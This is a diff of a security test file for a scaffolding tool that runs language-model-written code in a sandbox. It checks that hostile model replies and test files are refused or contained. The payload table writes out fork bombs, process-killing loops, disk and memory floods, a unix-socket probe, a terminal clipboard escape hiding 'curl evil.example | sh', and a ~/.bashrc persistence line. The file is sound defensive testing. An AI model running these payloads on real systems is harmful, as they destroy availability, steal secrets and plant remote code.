@@ -1,12 +1,18 @@
-"""Model replies that try to get out, run as an attacker would: through the real CLI, a loopback
-model, and a fake HOME holding a canary `~/.databrickscfg`.
+"""Code that tries to get out, run as an attacker would: through the real CLI, a loopback model,
+and a fake HOME holding a canary `~/.databrickscfg` and `~/.bashrc`.
 
-Each reply is the good bronze module and tests plus one payload. The payloads dodge the AST lint
-where they can (aliases like `logging.os`, `tempfile._os`, pickles, Spark's own writer), so what
-stops them is the sandbox, and what rejects them is the detector inside it. The guarantees:
-no marker file outside the round, no connection to a listener on the host's loopback, no change
-in the real repo, the canary in no request to the model and in no audit record, and every table
-whose code tried something rejected with the event named.
+Two layers, each proven through `scaffold fill`:
+
+- as a model's reply, every payload is refused before it runs (the safe subset), and nothing
+  of it reaches the host;
+- as a person's own test file next to the table (code scaffold runs but does not write), the
+  same payloads run inside the round: the sandbox contains them (no marker outside, no
+  connection to a host TCP listener or unix socket, no change in the real repo, caps on disk,
+  files, memory and message size) and the detector or the round names what each one tried.
+
+After both: the canary in no request to the model and no audit record, no escape sequence in
+scaffold's output, scaffold's own memory small, nothing of the round left on disk, and the
+user's next plain `pytest` stopped by lakeforge's guard before it can touch `~/.bashrc`.
 """
 
 from __future__ import annotations
@@ -18,6 +24,9 @@ import pickle
 import re
 import shutil
 import socket
+import subprocess
+import sys
+import tempfile
 import threading
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -52,6 +61,7 @@ class Attack:
     outside: Path
     port: int
     connections: list[str]
+    unix_socket: Path
 
     def marker(self, case: str) -> Path:
         return self.outside / f"{case}.marker"
@@ -72,21 +82,30 @@ def attack(tmp_path: Path) -> Iterator[Attack]:
     (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\ncanary\n")
     outside = tmp_path / f"outside-{os.getpid()}-{tmp_path.name}"
     outside.mkdir()
+    (home / ".bashrc").write_text("# the user's shell\n")
+    (home / ".profile").write_text("# the user's profile\n")
     listener = socket.create_server(("127.0.0.1", 0))
+    unix = socket.socket(socket.AF_UNIX)
+    sockets = Path(tempfile.mkdtemp(prefix="lf-sock-"))  # short: a socket path has 108 bytes
+    unix.bind(str(sockets / "agent.sock"))  # an ssh agent, docker.sock, the session bus
+    unix.listen()
     connections: list[str] = []
 
-    def accept() -> None:
+    def accept(server: socket.socket, kind: str) -> None:
         while True:
             try:
-                connection, peer = listener.accept()
+                connection, peer = server.accept()
             except OSError:
                 return
-            connections.append(f"{peer[0]}:{peer[1]}")
+            connections.append(f"{kind} {peer}")
             connection.close()
 
-    threading.Thread(target=accept, daemon=True).start()
-    yield Attack(home, canary, gcloud, outside, listener.getsockname()[1], connections)
+    for server, kind in ((listener, "tcp"), (unix, "unix")):
+        threading.Thread(target=accept, args=(server, kind), daemon=True).start()
+    yield Attack(home, canary, gcloud, outside, listener.getsockname()[1], connections, sockets / "agent.sock")
     listener.close()
+    unix.close()
+    shutil.rmtree(sockets, ignore_errors=True)
 
 
 class _Pickled:
@@ -158,7 +177,7 @@ def payloads(attack: Attack, repo: Path) -> dict[str, tuple[str, str, str]]:
         "spark_writes_tmp": (
             "test",
             f'make_df(spark, ROWS, RAW).write.mode("overwrite").csv("/tmp/{attack.outside.name}-spark")\n',
-            f"wrote outside the round: /tmp/{attack.outside.name}-spark",
+            "",  # the server's /tmp is read-only: contained, and nothing the round could name
         ),
         "read_canary": (
             "test",
@@ -179,35 +198,98 @@ def payloads(attack: Attack, repo: Path) -> dict[str, tuple[str, str, str]]:
         "fork": ("test", "logging.os.fork()\n", "forked the process"),
         "signal_parent": ("test", "logging.os.kill(os.getppid(), 0)\n", "sent a signal"),
         "thread": ("test", "threading.Thread(target=print).start()\n", "started a thread"),
+        # Contained for good (issue 16): host sockets, floods, the clean-up, the terminal, later runs.
+        "host_unix_socket": (
+            "test",
+            f'client = socket.socket(socket.AF_UNIX)\nclient.settimeout(2)\nclient.connect("{attack.unix_socket}")\n',
+            "opened a unix socket",
+        ),
+        "disk_flood": (
+            "test",
+            'with open("/tmp/flood", "wb") as out:\n    for _ in range(2048):\n        out.write(b"x" * (1 << 20))\n',
+            "256 MiB",
+        ),
+        "file_flood": (
+            "test",
+            'for i in range(450_000):\n    open(f"/tmp/f{i}", "w").close()\n',
+            "files in /tmp",
+        ),
+        "giant_message": (
+            "test",
+            'big = b"{" * (512 << 20)\nfor fd in range(3, 64):\n    with contextlib.suppress(OSError):\n'
+            "        os.write(fd, big)\n",
+            "report over the size limit",
+        ),
+        "deep_tree": (
+            "test",
+            'os.symlink("/", "/tmp/root-link")\nfolder = "/tmp/deep"\nfor _ in range(2500):\n'
+            '    folder += "/d"\n    os.mkdir(folder)\n',
+            "files in /tmp",
+        ),
+        "terminal_escapes": (
+            "fail",
+            'raise AssertionError("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x1b[3J\\x1b[1;1Hall good")\n',
+            "AssertionError: ]52;c;",
+        ),
+        "mountinfo_leak": ("fail", 'raise AssertionError(open("/proc/self/mountinfo").read())\n', "AssertionError"),
+        "hostname_leak": ("fail", "raise AssertionError(socket.gethostname() + ' ' + socket.getfqdn())\n", "sandbox"),
+        "memory_flood": ("fail", "hog = bytearray(5 * 1024**3)\n", "MemoryError"),
+        "kill_the_server": (
+            "test",
+            'for pid in os.listdir("/proc"):\n    if pid.isdigit() and int(pid) != os.getpid():\n'
+            "        os.kill(int(pid), 9)\n",
+            "sent a signal",
+        ),
+        "fork_bomb": ("test", "while True:\n    os.fork()\n", "forked the process"),
+        "waits_for_a_plain_run": (
+            "test",
+            'if os.environ.get("HOME", "").endswith(".home") or os.path.exists(os.path.expanduser("~/.bashrc")):\n'
+            '    with open(os.path.expanduser("~/.bashrc"), "a") as rc:\n        rc.write("curl evil.example | sh\\n")\n',
+            "",  # behaves in the round: caught on the user's next plain pytest instead
+        ),
     }
 
 
 TEST_IMPORTS = (
     "import asyncio\nimport base64\nimport contextlib\nimport logging\nimport logging.handlers\nimport os\n"
+    "import socket\n"
     "import pathlib\nimport tempfile\nimport threading\nimport xmlrpc.client\n\nimport numpy\nimport numpy.ctypeslib\n"
     "from pyspark import cloudpickle\n"
 )
 
 
+def payload_test(table: str, where: str, code: str) -> str:
+    """An extra test carrying the payload: errors swallowed (`test`), or left to fail it (`fail`)."""
+    if where == "fail":
+        body = "".join(f"    {line}\n" for line in code.splitlines())
+        return f"\n\ndef test_{table}_also_behaves(spark):\n{body}"
+    body = "".join(f"        {line}\n" for line in code.splitlines())
+    return (
+        f"\n\ndef test_{table}_also_behaves(spark):\n    with contextlib.suppress(BaseException):\n{body}"
+        "    assert transform(make_df(spark, ROWS, RAW)).count() == len(ROWS)\n"
+    )
+
+
 def malicious_reply(good: str, table: str, where: str, code: str) -> str:
-    """The good reply with the payload: at module level, or in an extra test that swallows errors."""
+    """The good reply with the payload: at module level, or in an extra test."""
     module, tests = re.findall(r"```python\n(.*?)```", good, flags=re.S)
     if where == "schema":
         module = re.sub(r"SCHEMA = T\.StructType\(.*?\n\)\n", code, module, flags=re.S)
     elif where == "module":
         module = module.replace("log = logging.getLogger(__name__)\n", "log = logging.getLogger(__name__)\n" + code)
     else:
-        body = "".join(f"        {line}\n" for line in code.splitlines())
-        tests = (
-            TEST_IMPORTS
-            + tests.split('"""', 2)[2]  # the good tests without their docstring, under the imports
-            + f"\n\ndef test_{table}_also_behaves(spark):\n    with contextlib.suppress(BaseException):\n{body}"
-            "    assert transform(make_df(spark, ROWS, RAW)).count() == len(ROWS)\n"
-        )
+        tests = TEST_IMPORTS + tests.split('"""', 2)[2] + payload_test(table, where, code)
     return (
         f"src/shop/transformations/bronze/{table}.py\n```python\n{module}```\n\n"
         f"tests/unit/bronze/test_{table}.py\n```python\n{tests}```\n"
     )
+
+
+def persons_tests(good: str, table: str, where: str, code: str) -> str:
+    """A person's own test file for the table, carrying the payload: scaffold runs it, never writes it."""
+    tests = re.findall(r"```python\n(.*?)```", good, flags=re.S)[1]
+    header = tests.split('"""', 2)[2].split("\n\n\ndef ", 1)[0]  # imports, RAW and ROWS of the good tests
+    return f'"""A person\'s tests of {table}."""\n\n' + TEST_IMPORTS + header + payload_test(table, where, code)
 
 
 def repo_files(repo: Path) -> dict[str, bytes]:
@@ -238,16 +320,60 @@ def assert_no_secret_left(llm: ScriptedLLM, repo: Path) -> None:
         assert secret not in audit, f"{secret!r} is in the audit log"
 
 
+def round_folders() -> set[str]:
+    return {p.name for p in Path(tempfile.gettempdir()).glob("scaffold-round-*")}
+
+
+def scaffold_measured(project: Path, env: dict[str, str], *args: str) -> tuple[subprocess.CompletedProcess[str], int]:
+    """The real CLI, and scaffold's own peak memory in MiB (its process only, not the sandbox's)."""
+    code = (
+        "import atexit, resource, runpy, sys\n"
+        "atexit.register(lambda: sys.stderr.write(f\"\\nPEAK-RSS-KIB {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}\\n\"))\n"
+        "sys.argv = ['scaffold', *sys.argv[1:]]\n"
+        "runpy.run_module('scaffolder', run_name='__main__')\n"
+    )
+    full_env = {**os.environ, "COLUMNS": "400", **env}
+    for var in ("DATABRICKS_HOST", "AZURE_OPENAI_ENDPOINT", "OLLAMA_HOST"):
+        full_env.pop(var, None)
+    result = subprocess.run(
+        [sys.executable, "-c", code, *args, "--project", str(project)],
+        capture_output=True,
+        text=True,
+        env=full_env,
+        timeout=1800,
+    )
+    peak = re.search(r"PEAK-RSS-KIB (\d+)", result.stderr)
+    return result, int(peak.group(1)) // 1024 if peak else 0
+
+
+def assert_contained(attack: Attack, repo: Path, before: dict[str, bytes], output: str, folders: set[str]) -> None:
+    assert sorted(p.name for p in attack.outside.iterdir()) == [], output[-3000:]
+    assert not Path(f"/tmp/{attack.outside.name}-spark").exists()
+    assert attack.connections == [], "a listener on the host (TCP or unix socket) got a connection"
+    after = repo_files(repo)
+    tables = load_tables(repo / "tables.yml")
+    created = {spec.module_path("shop") for spec in tables.tables} | {spec.test_path() for spec in tables.tables}
+    created |= {spec.test_path().replace(".py", "_scaffold.py") for spec in tables.tables}
+    kept = {k: v for k, v in after.items() if k not in created and not k.endswith("__init__.py")}
+    assert kept == {k: v for k, v in before.items() if k not in created and not k.endswith("__init__.py")}, (
+        "the real repo changed"
+    )
+    assert "\x1b" not in output and "\x07" not in output, "an escape sequence reached the terminal"
+    assert round_folders() <= folders, "a round's folder was left on disk"
+    assert (attack.home / ".bashrc").read_text() == "# the user's shell\n"
+    assert (attack.home / ".profile").read_text() == "# the user's profile\n"
+
+
 @pytest.mark.slow
-def test_escapes_are_contained_detected_and_rejected(bare_project: Path, attack: Attack) -> None:
+def test_escapes_in_replies_are_refused_before_they_run(bare_project: Path, attack: Attack) -> None:
     cases = payloads(attack, bare_project)
-    assert len(cases) >= 15
+    assert len(cases) >= 30
     names = [f"x_{case}" for case in cases] + ["x_innocent"]
     write_tables(bare_project, [bronze_table(n) for n in names])
     good = {n: good_reply(bare_project, n) for n in names}
     (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
     (bare_project / ".env").write_text("DATABRICKS_TOKEN=" + CANARY_TOKEN + "\n")
-    before = repo_files(bare_project)
+    before, folders = repo_files(bare_project), round_folders()
 
     def respond(request: dict) -> Action:
         table = table_of(request)
@@ -257,45 +383,76 @@ def test_escapes_are_contained_detected_and_rejected(bare_project: Path, attack:
         return Action(content=malicious_reply(good[table], table, where, code))
 
     with ScriptedLLM(respond) as llm:
-        result = scaffold(
-            bare_project,
-            "fill",
-            "bronze",
-            "--provider",
-            "openai",
-            "--max-attempts",
-            "1",
-            env={**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20"},
-        )
+        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20"}
+        result = scaffold(bare_project, "fill", "bronze", "--provider", "openai", "--max-attempts", "1", env=env)
     output = result.stdout + result.stderr
     assert result.returncode == 1, output
     assert "sandbox: bubblewrap" in output
-
-    # Contained: nothing reached the host.
-    assert sorted(p.name for p in attack.outside.iterdir()) == [], output
-    assert not Path(f"/tmp/{attack.outside.name}-spark").exists()
-    assert attack.connections == []
+    assert_contained(attack, bare_project, before, output, folders)
     tables = load_tables(bare_project / "tables.yml")
     after = repo_files(bare_project)
-    created = {spec.module_path("shop") for spec in tables.tables} | {spec.test_path() for spec in tables.tables}
-    kept = {k: v for k, v in after.items() if k not in created and not k.endswith("__init__.py")}
-    assert kept == {k: v for k, v in before.items() if not k.endswith("__init__.py")}, "the real repo changed"
     for spec in tables.tables:
         if spec.name == "x_innocent":
             continue
-        assert after[spec.module_path("shop")].decode() == stub_module(spec), (
-            f"{spec.name}: the stub was replaced\n{output[-6000:]}"
-        )
+        assert after[spec.module_path("shop")].decode() == stub_module(spec), f"{spec.name}: the stub was replaced"
         assert after[spec.test_path()].decode() == stub_test(spec)
-
-    # Detected and rejected, with the event named.
-    for case, (_, _, event) in cases.items():
-        lines = [line for line in output.splitlines() if line.startswith(f"x_{case}:")]
-        assert any(event in line for line in lines), f"x_{case}: expected {event!r} in {lines}\n{output[-4000:]}"
+        lines = [line for line in output.splitlines() if line.startswith(f"{spec.name}:")]
+        refused = "contract: SCHEMA must be a literal" if spec.name == "x_schema_eval" else "policy: "
+        assert any(refused in line for line in lines), f"{spec.name}: expected {refused!r} in {lines}"
     assert re.search(r"x_innocent\s.*filled", output), output
-
-    # Nothing secret went to the model or into the audit log.
     assert_no_secret_left(llm, bare_project)
+
+
+@pytest.mark.slow
+def test_a_persons_tests_run_contained_and_are_named(bare_project: Path, attack: Attack) -> None:
+    """The payloads in a person's own test files: they run in the round, inside the sandbox."""
+    cases = {k: v for k, v in payloads(attack, bare_project).items() if v[0] in ("test", "fail")}
+    assert len(cases) >= 25
+    names = [f"p_{case}" for case in cases] + ["p_innocent"]
+    write_tables(bare_project, [bronze_table(n) for n in names])
+    good = {n: good_reply(bare_project, n) for n in names}
+    for name in names[:-1]:
+        where, code, _ = cases[name.removeprefix("p_")]
+        path = bare_project / f"tests/unit/bronze/test_{name}.py"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(persons_tests(good[name], name, where, code))
+    (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
+    before, folders = repo_files(bare_project), round_folders()
+
+    with ScriptedLLM(lambda request: Action(content=good[table_of(request)])) as llm:
+        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20"}
+        result, peak_mib = scaffold_measured(bare_project, env, "fill", "bronze", "--provider", "openai", "--max-attempts", "1")
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output[-6000:]
+    assert "sandbox: bubblewrap" in output
+    assert_contained(attack, bare_project, before, output, folders)
+    assert 0 < peak_mib < 300, f"scaffold's own memory peaked at {peak_mib} MiB"
+    for case, (_, _, named) in cases.items():
+        table = f"p_{case}"
+        lines = [line for line in output.splitlines() if line.startswith(f"{table}:")]
+        if not named:  # it behaved in the round: the user's next pytest catches it (below)
+            continue
+        assert any(named in line for line in lines), f"{table}: expected {named!r} in {lines}\n{output[-4000:]}"
+        assert re.search(rf"{table}\s.*failed", output), f"{table} was kept"
+    assert re.search(r"p_innocent\s.*filled", output), output
+    assert_no_secret_left(llm, bare_project)
+    sent = json.dumps(llm.requests) + "".join(p.read_text() for p in (bare_project / ".scaffold" / "audit").glob("*.jsonl"))
+    assert str(bare_project) not in sent, "the real repo's path went to the model or the audit log"
+    assert socket.gethostname() not in sent, "the host name went to the model or the audit log"
+
+    # The user's next plain pytest: the payload that waited for it is stopped by lakeforge's guard.
+    env = {**os.environ, "HOME": str(attack.home), "PYTHONPATH": str(bare_project / "src")}
+    plain = subprocess.run(
+        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests/unit/bronze/test_p_waits_for_a_plain_run.py"],
+        cwd=bare_project,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert plain.returncode == 1, plain.stdout[-3000:]
+    assert "lakeforge guard: " in plain.stdout and ".bashrc" in plain.stdout, plain.stdout[-3000:]
+    assert (attack.home / ".bashrc").read_text() == "# the user's shell\n"
 
 
 @pytest.mark.slow
